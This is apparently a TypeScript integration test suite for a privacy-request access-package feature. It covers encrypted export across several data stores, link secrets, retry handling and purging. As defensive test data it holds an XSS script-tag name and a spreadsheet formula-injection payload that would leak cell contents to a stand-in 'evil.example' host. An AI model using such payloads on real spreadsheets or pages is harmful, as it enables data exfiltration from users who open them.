// The access package against every real store (PostgreSQL, Redis, files, the marketing
// database) and a real SMTP catcher: what the subject gets, what lands on disk, and how a
// retried reply and the purge behave.
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Pool } from 'pg';
import { createClient } from 'redis';
import { preparePackage } from '../../activities/access-package';
import { sendAccessReply } from '../../activities/access-reply';
import type { ActivityDeps } from '../../activities/deps';
import { newLinkSecret } from '../../access-package/link-secret';
import { purgeExpiredPackages } from '../../access-package/purge';
import { createFieldCipher } from '../../crypto/field-cipher';
import { startMailCatcher, type MailCatcher } from '../../devtools/mail-catcher';
import { VERIFICATION } from '../../domain/procedure';
import { createSmtpMailer, type Mailer } from '../../mail/mailer';
import type { DataStore, SubjectKeys } from '../../stores/data-store';
import { createFileStore, subjectFolder } from '../../stores/file-store';
import { createRedisSessionsStore, sessionKey, subjectIndexKey, type RedisClient } from '../../stores/redis-sessions-store';
import { createStoreRegistry } from '../../stores/registry';
import { testDb } from '../support/database';
import { decryptPackageFile, parseCsv, zipTexts } from '../support/package-reader';
import { testSecrets } from '../support/test-keys';
import { createRequest, createSubject, newEmail, seedLogs } from './fixtures';
import { required } from './store-fixtures';
import { declaredDemoStores, demoStore } from '../support/demo-estate';

const db = testDb();
const cipher = createFieldCipher(testSecrets().keyring);
const redis: RedisClient = createClient({ url: required('REDIS_URL') });
const pool = new Pool({ connectionString: required('MARKETING_DATABASE_URL'), max: 4 });
const demo = declaredDemoStores({ marketing: true });
let work = '';
let mail: MailCatcher;
let mailer: Mailer;
let stores: DataStore[];
let deps: ActivityDeps;

beforeAll(async () => {
  await redis.connect();
  work = await mkdtemp(path.join(tmpdir(), 'dsr-access-package-'));
  mail = await startMailCatcher(0);
  mailer = createSmtpMailer({ host: '127.0.0.1', port: mail.port, secure: false, from: 'Privacy Office <privacy@example.com>' });
  stores = [demoStore(demo, 'customer-accounts'), demoStore(demo, 'service-logs'), createRedisSessionsStore(async () => redis), createFileStore(path.join(work, 'files')), demoStore(demo, 'marketing-db')];
  deps = {
    db,
    mailer,
    cipher,
    clock: () => new Date(),
    verification: VERIFICATION,
    stores: createStoreRegistry(stores),
    staffMailTo: 'compliance@example.test',
    publicUrl: 'https://privacy.example.test',
    accessPackageDir: path.join(work, 'packages'),
  };
});
afterAll(async () => {
  mailer?.close();
  await mail?.close();
  await redis.quit();
  await pool.end();
  await db.$disconnect();
  await rm(work, { recursive: true, force: true });
});

// A name with markup in it: the HTML summary must show it as text.
const NAME = 'Zhang <script>alert(1)</script> Min';

/** A subject with records in every store, and an access request for them. */
async function subjectEverywhere(tag: string): Promise<SubjectKeys & { requestId: string }> {
  const email = newEmail();
  const subjectId = await createSubject(db, cipher, email);
  await db.customerAccount.create({ data: { email, fullName: NAME, phone: `+86 138 0000 ${tag}`, companyName: 'Shenzhen Example, Co.', plan: 'enterprise' } });
  await seedLogs(db, email, 3);
  for (const n of [1, 2]) {
    await redis.hSet(sessionKey(email, n), { startedAt: '2026-01-01T08:00:00Z', lastSeenAt: '2026-01-01T09:00:00Z', lastIp: `10.9.${tag}.${n}`, deviceId: `device-${tag}-${n}`, cookieIds: `ck-${tag}a,ck-${tag}b` });
    await redis.sAdd(subjectIndexKey(email), sessionKey(email, n));
  }
  const folder = subjectFolder(path.join(work, 'files'), email);
  await mkdir(folder, { recursive: true });
  await writeFile(path.join(folder, 'id-scan-front.png'), `scan of ${tag}`);
  await pool.query(`INSERT INTO newsletter_subscription (email, list, consented_at, source) VALUES ($1, 'cloud-news', now(), 'signup-form')`, [email]);
  await pool.query(`INSERT INTO campaign_click (email, campaign, url, clicked_at) VALUES ($1, 'spring', $2, now())`, [email, `https://example.com/offer/${tag}`]);
  return { subjectId, email, requestId: await createRequest(db, subjectId, 'ACCESS') };
}

const names = () => stores.map((s) => s.name);

async function unzipped(row: { path: string; dataKeySealed: string | null }): Promise<Map<string, string>> {
  const zipPath = path.join(work, `${path.basename(row.path)}.zip`);
  await decryptPackageFile(cipher, row, zipPath);
  return zipTexts(zipPath);
}

describe('access package', () => {
  test('when a subject with records in every store asks for access, then the package holds each category as JSON and CSV and an escaped summary, and nobody else', async () => {
    const subject = await subjectEverywhere('1111');
    const other = await subjectEverywhere('2222');

    const { secret, hash } = newLinkSecret();
    const { row } = await preparePackage(deps, subject.requestId, names(), subject.email, hash);

    // On disk: encrypted (no zip signature), the address nowhere in it; the secret stored only hashed.
    const onDisk = await readFile(row.path);
    expect(onDisk.subarray(0, 2).toString('latin1')).not.toBe('PK');
    expect(onDisk.includes(Buffer.from(subject.email))).toBe(false);
    expect(onDisk.includes(Buffer.from('Zhang'))).toBe(false);
    expect(row.tokenHash).toBe(createHash('sha256').update(secret).digest('hex'));
    expect(JSON.stringify(await db.accessPackage.findUniqueOrThrow({ where: { id: row.id } }), (_k, v) => (typeof v === 'bigint' ? Number(v) : v))).not.toContain(secret);

    const texts = await unzipped(row);
    const expected: Record<string, number> = {
      'customer-accounts/contact': 1,
      'customer-accounts/corporate': 1,
      'customer-accounts/account': 1,
      'service-logs/network': 3,
      'service-logs/device': 3,
      'redis-sessions/session': 2,
      'redis-sessions/device': 2,
      'redis-sessions/cookie': 2,
      'files/id-document': 1,
      'marketing-db/marketing-consent': 1,
      'marketing-db/campaign-activity': 1,
    };
    expect([...texts.keys()].sort()).toEqual(['index.html', ...Object.keys(expected).flatMap((k) => [`${k}.csv`, `${k}.json`])].sort());
    for (const [file, count] of Object.entries(expected)) {
      const json = JSON.parse(texts.get(`${file}.json`)!) as Array<Record<string, unknown>>;
      const csv = parseCsv(texts.get(`${file}.csv`)!);
      expect([file, json.length, csv.length - 1]).toEqual([file, count, count]);
      // The CSV's header is the JSON's keys, and each line the same record.
      expect(csv[0]).toEqual(Object.keys(json[0]!));
      // ...except that text a spreadsheet would take for a formula (a phone's "+86") is quoted.
      expect(csv[1]).toEqual(Object.values(json[0]!).map((v) => (v === null ? '' : typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v))));
    }
    expect(JSON.parse(texts.get('customer-accounts/contact.json')!)).toEqual([{ fullName: NAME, phone: '+86 138 0000 1111' }]);
    expect(parseCsv(texts.get('redis-sessions/cookie.csv')!)[1]).toEqual(['1', 'ck-1111a,ck-1111b']);
    expect(row.rowCount).toBe(Object.values(expected).reduce((a, b) => a + b, 0));

    const index = texts.get('index.html')!;
    expect(index).toContain(subject.requestId);
    for (const file of Object.keys(expected)) expect(index).toContain(`${file}.json`);
    expect(index).toContain('Zhang &lt;script&gt;alert(1)&lt;/script&gt; Min');
    expect(index).not.toContain('<script>');

    const everything = [...texts.values()].join('\n');
    expect(everything).toContain(subject.email);
    for (const trace of [other.email, '2222', other.requestId]) expect(everything).not.toContain(trace);
  });

  test('when a record holds text a spreadsheet would run as a formula, then the CSV cell begins with a single quote and the JSON keeps the value', async () => {
    const email = newEmail();
    const subjectId = await createSubject(db, cipher, email);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
    await db.customerAccount.create({ data: { email, fullName: formula, phone: '+86 138 0000 3333', companyName: '@SUM(1+1)', plan: '-2+3' } });
    const requestId = await createRequest(db, subjectId, 'ACCESS');
    const { row } = await preparePackage(deps, requestId, ['customer-accounts'], email, newLinkSecret().hash);
    const texts = await unzipped(row);
    expect(parseCsv(texts.get('customer-accounts/contact.csv')!)[1]).toEqual([`'${formula}`, "'+86 138 0000 3333"]);
    expect(parseCsv(texts.get('customer-accounts/corporate.csv')!)[1]).toEqual(["'@SUM(1+1)"]);
    expect(parseCsv(texts.get('customer-accounts/account.csv')!)[1]?.[1]).toBe("'-2+3");
    expect(JSON.parse(texts.get('customer-accounts/contact.json')!)).toEqual([{ fullName: formula, phone: '+86 138 0000 3333' }]);
    // Tab and carriage return start a formula in some spreadsheets too; a plain word or number is left alone.
    const { csvLine } = await import('../../access-package/csv');
    expect(csvLine(['\tcmd', '\r=1', 'plain', -5, 'a-b'])).toBe(`'\tcmd,"'\r=1",plain,-5,a-b\r\n`);
  });

  test('when the reply is retried, then the package is built once, the mailed link is the live one, an overlapping attempt cannot break it, and a sent reply is never sent again', async () => {
    const subject = await subjectEverywhere('3333');

    // An attempt that built the package but died before mailing: its secret was never sent.
    const first = await preparePackage(deps, subject.requestId, names(), subject.email, newLinkSecret().hash);
    // Another attempt holds the mail's claim and is sending its own link: this one must leave the stored hash alone.
    const messageKey = `${subject.requestId}.access-reply`;
    await db.sentMail.create({ data: { messageKey, requestId: subject.requestId, state: 'SENDING', claimedAt: new Date() } });
    await expect(sendAccessReply(deps, subject.requestId, names())).rejects.toThrow(/claimed by another attempt/);
    expect((await db.accessPackage.findUniqueOrThrow({ where: { requestId: subject.requestId } })).tokenHash).toBe(first.row.tokenHash);
    // That attempt died before sending: its claim is gone, and the next attempt mails a fresh link.
    await db.sentMail.delete({ where: { messageKey } });
    await sendAccessReply(deps, subject.requestId, names());
    const reply = await mail.waitFor((m) => m.to.includes(subject.email) && /ready to download/i.test(m.subject));
    const link = /https:\/\/privacy\.example\.test\/api\/requests\/[0-9a-f-]{36}\/package\?token=([A-Za-z0-9_-]{43})/.exec(reply.text)?.[1];
    expect(link).toBeDefined();

    const row = await db.accessPackage.findUniqueOrThrow({ where: { requestId: subject.requestId } });
    expect(row.id).toBe(first.row.id);
    expect(row.path).toBe(first.row.path);
    expect(row.tokenHash).toBe(createHash('sha256').update(link!).digest('hex'));
    expect(row.tokenHash).not.toBe(first.row.tokenHash);
    // The mail names categories and counts, never a value.
    expect(reply.text).toContain('customer-accounts / contact: 1 record');
    expect(reply.text).toContain('service-logs / network: 3 records');
    expect(reply.text).not.toContain('Zhang');
    expect(reply.text).not.toContain('+86 138');

    await sendAccessReply(deps, subject.requestId, names());
    expect((await db.accessPackage.findUniqueOrThrow({ where: { requestId: subject.requestId } })).tokenHash).toBe(row.tokenHash);
    expect(mail.messages().filter((m) => m.to.includes(subject.email))).toHaveLength(1);
    expect(await db.auditEvent.count({ where: { requestId: subject.requestId, action: 'ACCESS_PACKAGE_CREATED' } })).toBe(1);
  });

  test('when a package outlives its retention, then the purge deletes its file and key, audits it, and a second run does nothing', async () => {
    const subject = await subjectEverywhere('4444');
    const { row } = await preparePackage(deps, subject.requestId, names(), subject.email, newLinkSecret().hash);
    await db.accessPackage.update({ where: { id: row.id }, data: { expiresAt: new Date(Date.now() - 60_000), purgeAfter: new Date(Date.now() - 60_000) } });

    expect(await purgeExpiredPackages(db, new Date())).toBeGreaterThanOrEqual(1);
    await expect(stat(row.path)).rejects.toMatchObject({ code: 'ENOENT' });
    expect(await db.accessPackage.findUniqueOrThrow({ where: { id: row.id } })).toMatchObject({ dataKeySealed: null, purgedAt: expect.any(Date) });
    const audit = await db.auditEvent.findMany({ where: { requestId: subject.requestId, action: 'ACCESS_PACKAGE_PURGED' } });
    expect(audit).toHaveLength(1);
    expect(JSON.stringify(audit[0]!.details)).not.toContain(subject.email);

    await purgeExpiredPackages(db, new Date());
    expect(await db.auditEvent.count({ where: { requestId: subject.requestId, action: 'ACCESS_PACKAGE_PURGED' } })).toBe(1);
  });
});
